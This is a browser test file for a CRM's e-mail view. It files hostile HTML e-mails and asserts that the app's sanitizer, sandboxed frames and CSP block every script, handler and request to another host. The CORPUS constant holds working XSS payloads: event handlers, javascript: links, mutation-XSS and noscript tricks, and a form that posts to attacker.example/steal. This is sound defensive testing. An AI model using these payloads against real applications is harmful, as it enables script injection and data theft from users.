import path from 'node:path';
import type { Page } from 'playwright-core';
import { ARTIFACTS, axeViolations, BrowserHarness, logIn, startHarness } from './browser-harness';

/**
 * The XSS corpus: e-mails whose HTML carries scripts, event handlers, javascript: links, srcdoc frames, <meta
 * refresh>, <base>, forms, SVG and MathML payloads, remote CSS and tracking pixels are filed through the filing API
 * (raw RFC 5322 messages, as the add-ins send them) and opened in the opportunity's chatter in real Chromium. The
 * test listens for dialogs, page errors, console errors (CSP violations) and every network request: nothing runs
 * (a flag each script would set stays unset in the app and in the frames), nothing is fetched from another host,
 * and every frame is sandboxed without scripts or the app's origin.
 */
const EVIL = 'http://attacker.example';
const CORPUS: Record<string, string> = {
  script: `<script>top.__xss = 'script'; alert(1)</script><p>script</p>`,
  handlers: `<img src="x" onerror="top.__xss='onerror'"><body onload="alert(2)"><p onmouseover="alert(2)">handlers</p>`,
  javascriptLink: `<a href="javascript:top.__xss='link'">javascript link</a><a href="JaVaScRiPt&colon;alert(3)">two</a>`,
  srcdoc: `<iframe srcdoc="<script>top.__xss='srcdoc'</script>"></iframe><iframe src="${EVIL}/frame"></iframe>`,
  metaRefresh: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><p>refresh</p>`,
  base: `<base href="${EVIL}/"><img src="pixel.gif"><a href="page">relative</a>`,
  form: `<form action="${EVIL}/steal" method="post"><input name="q" autofocus onfocus="top.__xss='focus'"><button>go</button></form>`,
  svg: `<svg onload="top.__xss='svg'"><script>alert(8)</script><animate onbegin="alert(8)" attributeName="x" dur="1s"/><image href="${EVIL}/svg.png"/></svg>`,
  mutation: `<math><mtext><table><mglyph><style><img src=x onerror="top.__xss='mxss'">`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=top.__xss='noscript'>"></noscript>`,
  remoteCss: `<link rel="stylesheet" href="${EVIL}/x.css"><style>@import url(${EVIL}/i.css); body { background: url(${EVIL}/bg.png) }</style><div style="background-image: url(${EVIL}/s.png); color: red">css</div>`,
  pixel: `<img src="${EVIL}/pixel.gif" width="1" height="1"><img src="//attacker.example/p2.gif"><video poster="${EVIL}/poster.png"></video>`,
  objects: `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf"><applet code="x"></applet>`,
  dataSvg: `<img src="data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(14)"/>').toString('base64')}">`,
};

let h: BrowserHarness;
let page: Page;
let opportunity: number;
const dialogs: string[] = [];
const foreignRequests: string[] = [];

function rawEmail(key: string, html: string): Buffer {
  return Buffer.from(
    [
      'From: Angreifer <evil@attacker.example>',
      'To: Alma Alle <all@example.test>',
      `Subject: XSS ${key}`,
      `Message-ID: <xss-${key}@attacker.example>`,
      'Date: Mon, 02 Nov 2026 10:00:00 +0100',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      `<html><head><title>t</title></head><body>${html}</body></html>`,
      '',
    ].join('\r\n'),
  );
}

beforeAll(async () => {
  h = await startHarness();
  const res = await h.env.as('all').post('/api/v1/leads').send({ type: 'opportunity', name: 'Angriffsziel' });
  opportunity = res.body.id;
  for (const [key, html] of Object.entries(CORPUS)) {
    const filed = await h.env
      .as('all')
      .post(`/api/v1/filing/messages?targets=lead:${opportunity}`)
      .set('Content-Type', 'message/rfc822')
      .send(rawEmail(key, html));
    expect([200, 201]).toContain(filed.status);
  }
  ({ page } = await h.newPage('de-DE'));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(h.baseUrl) && !url.startsWith('data:') && !url.startsWith('blob:')) foreignRequests.push(url);
  });
  page.on('popup', (popup) => foreignRequests.push(`popup: ${popup.url()}`));
  await logIn(page, h.baseUrl, h.env.users.all.email);
}, 120_000);

afterAll(async () => {
  await h?.close();
});

it('opens every hostile e-mail in a sandboxed frame: no script runs, nothing is fetched from another host', async () => {
  await page.goto(`${h.baseUrl}/opportunities/${opportunity}`);
  const frames = page.locator('article.email iframe');
  await frames.first().waitFor();
  expect(await frames.count()).toBe(Object.keys(CORPUS).length);

  for (let i = 0; i < Object.keys(CORPUS).length; i++) {
    const frame = frames.nth(i);
    // The frames load lazily: bring each into view and wait until its document is there.
    await frame.scrollIntoViewIfNeeded();
    expect(await frame.getAttribute('sandbox')).toBe('allow-popups allow-popups-to-escape-sandbox');
    const inside = page.frameLocator(`article.email >> nth=${i} >> iframe`);
    await inside.locator('body').waitFor({ state: 'attached' });
    // What the sanitizer let through: no active or loading element is left of the e-mail's HTML.
    const active = await inside
      .locator(
        'body :is(script, iframe, frame, form, input, meta, base, link, style, object, embed, applet, svg, math)',
      )
      .count();
    expect(active).toBe(0);
    const withHandlers = await inside.locator('[onerror], [onload], [onmouseover], [onfocus], [onbegin]').count();
    expect(withHandlers).toBe(0);
    const links = await inside.locator('a[href]').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    // A link keeps a web, mail or phone target (or a relative one, harmless without a <base>); no other scheme.
    const schemes = links.map((href) => /^\s*([a-z][a-z0-9+.-]*):/i.exec(href ?? '')?.[1].toLowerCase() ?? 'relative');
    expect(schemes.filter((scheme) => !['http', 'https', 'mailto', 'tel', 'relative'].includes(scheme))).toEqual([]);
  }
  // Let pending loads, timers and a meta refresh (0 s) happen, if anything were to happen.
  await page.waitForTimeout(300);
  await page.mouse.move(200, 400);
  await page.keyboard.press('Tab');

  expect(await page.evaluate<unknown>('window.__xss')).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(foreignRequests).toEqual([]);
  expect(h.problems.splice(0)).toEqual([]);
  expect(page.url()).toBe(`${h.baseUrl}/opportunities/${opportunity}`);

  // Even opened on its own (not framed), the body page runs nothing: its CSP sandboxes it.
  const bodyUrl = await frames.first().getAttribute('src');
  const response = await page.request.get(bodyUrl!);
  expect(response.headers()['content-security-policy']).toMatch(/default-src 'none'.*sandbox/);
  await page.screenshot({ path: path.join(ARTIFACTS, 'web-email-xss.png'), fullPage: false });
  expect(await axeViolations(page)).toEqual([]);
});

it('proves the listeners would notice: a dialog and a foreign request from the app page itself are caught', async () => {
  // The same listeners on a deliberately unsafe page of about:blank (no CSP): a script there does run and is seen.
  const probe = await h.newPage('de-DE');
  const seen: string[] = [];
  probe.page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  probe.page.on('request', (request) => seen.push(`request: ${request.url()}`));
  const dialogSeen = probe.page.waitForEvent('dialog');
  await probe.page.setContent(`<img src="${EVIL}/probe.gif" onerror="alert('ran')">`);
  await dialogSeen;
  await probe.context.close();
  h.problems.splice(0);
  expect(seen).toEqual(expect.arrayContaining([`request: ${EVIL}/probe.gif`, 'dialog: ran']));
});
